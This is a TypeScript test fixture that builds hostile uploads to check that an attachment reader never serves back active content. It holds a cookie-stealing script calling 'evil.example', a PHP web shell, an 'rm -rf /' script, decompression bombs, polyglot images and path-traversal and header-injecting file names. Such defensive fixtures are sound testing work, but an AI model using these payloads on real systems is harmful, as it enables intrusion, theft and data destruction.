/** Files as attackers send them: what must never come back as something that runs. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { maxFileBytes } from '../src/attachments/read-upload.ts';

export interface HostileFile {
  title: string;
  bytes: Buffer;
  /** As it is announced. Default: `image/png`, which is what gets furthest. */
  mime_type?: string;
  name?: string;
}

const text = (words: string, encoding: BufferEncoding = 'utf8'): Buffer =>
  Buffer.from(words, encoding);
const join = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? text(part, 'latin1') : part)));
const be32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};
const le32 = (value: number): Buffer => Buffer.from(be32(value)).reverse();

export const picture = {
  png: text(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
  jpeg: text(
    '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8QEBEQCgwSExIQEw8QEBD/2wBDAQMDAwQDBAgEBAgQCwkLEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBD/wAARCAADAAIDAREAAhEBAxEB/8QAFAABAAAAAAAAAAAAAAAAAAAACP/EABQQAQAAAAAAAAAAAAAAAAAAAAD/xAAVAQEBAAAAAAAAAAAAAAAAAAAHCf/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/ADoDFU3/2Q==',
    'base64',
  ),
  webp: text(
    'UklGRjwAAABXRUJQVlA4IDAAAADQAQCdASoCAAMAAgA0JaACdLoB+AADsAD+8MQL/yC5YXXI1/8gP+QH/ID/+PIAAAA=',
    'base64',
  ),
};

const pngChunk = (name: string, data: Buffer | string): Buffer =>
  join(be32(Buffer.byteLength(data)), name, join(data), be32(0));
/** A picture of any size, with whatever chunks stand in it. */
const pngOf = (width: number, height: number, ...chunks: Buffer[]): Buffer =>
  join(
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', join(be32(width), be32(height), Buffer.from([8, 6, 0, 0, 0]))),
    ...chunks,
    pngChunk('IDAT', deflateRawSync(Buffer.alloc(64))),
    pngChunk('IEND', ''),
  );
const jpegWith = (...segments: [marker: number, data: string][]): Buffer =>
  join(
    picture.jpeg.subarray(0, 2),
    ...segments.map(([marker, data]) =>
      join(Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]), data),
    ),
    picture.jpeg.subarray(2),
  );
const webpOf = (kind: string, data: Buffer): Buffer =>
  join('RIFF', le32(12 + data.length), 'WEBP', kind, le32(data.length), data);

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const html = `<!doctype html><html><body onload="alert(1)">${script}</body></html>`;
const laughs = `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${svg}`;

const active: [string, Buffer, string?][] = [
  ['SVG', text(svg), 'image/svg+xml'],
  ['SVG that says it is a PNG', text(svg)],
  ['SVG behind a BOM', text(`\ufeff${svg}`)],
  ['SVG behind white space', text(`\n\n  \t${svg}`)],
  ['SVG with an XML prolog', text(`<?xml version="1.0"?>${svg}`)],
  ['SVG with entities of entities', text(laughs)],
  ['SVG in UTF-16', text(`\ufeff${svg}`, 'utf16le')],
  ['SVG, gzipped', gzipSync(svg), 'image/svg+xml'],
  ['HTML', text(html), 'text/html'],
  ['HTML that says it is a JPEG', text(html), 'image/jpeg'],
  ['HTML behind a comment', text(`<!-- PNG -->${html}`)],
  ['HTML behind zero bytes', join(Buffer.alloc(16), html)],
  ['XHTML', text(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
  ['JavaScript', text('alert(document.domain)'), 'text/javascript'],
  ['a service worker', text('self.onfetch = (e) => e.respondWith(new Response("x"))')],
  ['CSS', text('body { background: url(https://evil.example/) }'), 'text/css'],
  ['JSON', text('{"__proto__": {"admin": true}}'), 'application/json'],
  ['PHP', text('<?php system($_GET["c"]); ?>')],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['WebAssembly', join('\0asm', Buffer.from([1, 0, 0, 0]))],
  ['an MHTML page', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`)],
];

const documents: [string, Buffer, string?][] = [
  ['PDF', text('%PDF-1.7\n1 0 obj << /OpenAction << /JS (app.alert(1)) >> >>'), 'application/pdf'],
  ['ZIP', join('PK\x03\x04', Buffer.alloc(26)), 'application/zip'],
  ['a gzip bomb', gzipSync(Buffer.alloc(64 * 1024 * 1024)), 'application/gzip'],
  ['a bomb of a ZIP', join('PK\x03\x04', deflateRawSync(Buffer.alloc(64 * 1024 * 1024)))],
  ['ELF', join('\x7fELF', Buffer.alloc(60))],
  ['a Windows program', join('MZ', Buffer.alloc(60))],
  ['GIF', join('GIF89a', Buffer.alloc(20)), 'image/gif'],
  ['a GIF that is JavaScript', text('GIF89a/*…*/=1;alert(1)'), 'image/gif'],
  ['BMP', join('BM', Buffer.alloc(60)), 'image/bmp'],
  ['TIFF', join('II*\0', Buffer.alloc(20)), 'image/tiff'],
  ['AVIF', join(be32(24), 'ftypavif', Buffer.alloc(40)), 'image/avif'],
  ['an empty file', Buffer.alloc(0)],
];

const polyglots: [string, Buffer, string?][] = [
  ['PNG with HTML behind it', join(picture.png, html)],
  ['PNG with HTML in a comment', pngOf(1, 1, pngChunk('tEXt', `Comment\0${html}`))],
  ['PNG with SVG in XMP', pngOf(1, 1, pngChunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${svg}`))],
  ['PNG with a ZIP behind it', join(picture.png, 'PK\x03\x04', Buffer.alloc(26))],
  ['PNG with a bomb in it', pngOf(1, 1, pngChunk('zTXt', deflateRawSync(Buffer.alloc(1 << 25))))],
  ['JPEG with HTML in a comment', jpegWith([0xfe, html]), 'image/jpeg'],
  ['JPEG with PHP in EXIF', jpegWith([0xe1, 'Exif\0\0<?php system($_GET["c"]); ?>']), 'image/jpeg'],
  ['JPEG that is JavaScript', jpegWith([0xe0, '/*'], [0xfe, '*/=alert(1)/*']), 'image/jpeg'],
  ['WebP with HTML behind it', join(picture.webp, html), 'image/webp'],
  ['a PNG signature before SVG', join(picture.png.subarray(0, 8), svg)],
  ['a WebP signature before HTML', join('RIFF', le32(9999), 'WEBP', html), 'image/webp'],
];

const sizes: [string, Buffer, string?][] = [
  ['PNG of 100,000 × 100,000', pngOf(100_000, 100_000)],
  ['PNG of 2³¹ × 1', pngOf(2 ** 31, 1)],
  ['PNG of 0 × 0', pngOf(0, 0)],
  ['JPEG of 65,535 × 65,535', jpegOfSize(65_535, 65_535), 'image/jpeg'],
  ['WebP of 16,777,216²', webpOf('VP8X', Buffer.alloc(18, 0xff)), 'image/webp'],
  ['lossless WebP of 16,384²', webpOf('VP8L', Buffer.alloc(18, 0xff)), 'image/webp'],
  ['PNG, its signature alone', picture.png.subarray(0, 8)],
  ['PNG, cut in the middle', picture.png.subarray(0, 45)],
  ['JPEG, its beginning alone', picture.jpeg.subarray(0, 4), 'image/jpeg'],
  ['JPEG, cut before its size', picture.jpeg.subarray(0, 100), 'image/jpeg'],
  ['WebP that promises more', picture.webp.subarray(0, 40), 'image/webp'],
  ['PNG of one byte too many', join(picture.png, Buffer.alloc(maxFileBytes))],
];

function jpegOfSize(width: number, height: number): Buffer {
  const bytes = Buffer.from(picture.jpeg);
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

const names: [string, string][] = [
  ['a name that climbs', '../../../../etc/passwd'],
  ['a name with backslashes', '..\\..\\windows\\system32\\cmd.exe'],
  ['a name that begins a header', 'a.png\r\nContent-Type: text/html\r\n\r\n<script>'],
  ['a name with quotes', 'a"; filename="evil.html'],
  ['a name that reads backwards', 'photo\u202egnp.exe'],
  ['a name with a zero byte', 'a.png\u0000.html'],
  ['a name that is a page', 'index.html'],
  ['a name of 255 letters', `${'x'.repeat(251)}.svg`],
];

export const hostileFiles: readonly HostileFile[] = [
  ...[...active, ...documents, ...polyglots, ...sizes].map(([title, bytes, mime_type]) => ({
    title,
    bytes,
    ...(mime_type !== undefined && { mime_type }),
  })),
  ...names.map(([title, name]) => ({ title, name, bytes: picture.png })),
];
